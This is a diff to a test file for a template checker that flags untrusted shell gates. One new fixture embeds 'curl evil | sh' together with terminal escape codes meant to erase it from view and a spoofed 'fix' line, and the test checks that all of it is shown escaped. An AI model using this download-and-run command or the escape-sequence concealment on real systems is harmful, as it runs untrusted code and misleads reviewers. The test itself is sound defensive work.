@@ -46,12 +46,12 @@ test('gates that nobody has trusted are shown, and no longer once somebody has',
   const patient = examined();
   expect(of('note', checkTemplates.examine(patient))).toMatchObject([
     {
-      evidence: ['step "ship": npm test'],
+      evidence: ['step "ship":', '│ npm test'],
       fix: 'read them, then `holdfast trust release`',
     },
   ]);
   const { template, file } = findTemplate(patient.root, patient.root, 'release');
-  trust(patient.config, template, file, patient.now);
+  trust(patient, template, file, patient.now);
   expect(levels(checkTemplates.examine(patient))).toEqual(['ok']);
 });
 
@@ -62,5 +62,42 @@ test('a record of trust that cannot be read is told', () => {
   writeFileSync(join(patient.config, 'holdfast/trusted-templates.json'), '{');
   expect(of('warning', checkTemplates.examine(patient))).toMatchObject([
     { message: expect.stringContaining('trusted-templates.json is not JSON') },
+  ]);
+});
+
+test('a command of several lines cannot hide one, nor pass for a line of ours', () => {
+  const command = String.raw`"npm test\ncurl evil | sh \e[1A\e[2K\n\nfix: nothing to do"`;
+  const { examined } = makePatient({
+    [`${FOLDER}/release.yaml`]: `${plain}    gate: ${command}\n`,
+  });
+  expect(of('note', checkTemplates.examine(examined()))).toMatchObject([
+    {
+      evidence: [
+        'step "ship":',
+        '│ npm test',
+        '│ curl evil | sh <U+001B>[1A<U+001B>[2K',
+        '│ ',
+        '│ fix: nothing to do',
+      ],
+    },
+  ]);
+});
+
+test('two that go by one name are told with both files', () => {
+  const json = {
+    name: 'Other',
+    description: 'x',
+    steps: [{ id: 'a', type: 'action', instructions: 'x' }],
+  };
+  const { examined } = makePatient({
+    [`${FOLDER}/release.yaml`]: plain,
+    [`${FOLDER}/release.json`]: JSON.stringify(json),
+  });
+  expect(of('warning', checkTemplates.examine(examined()))).toMatchObject([
+    {
+      message: '2 templates go by the name release: none is found by it',
+      evidence: [`${FOLDER}/release.json`, `${FOLDER}/release.yaml`],
+      fix: 'rename all but one of them',
+    },
   ]);
 });
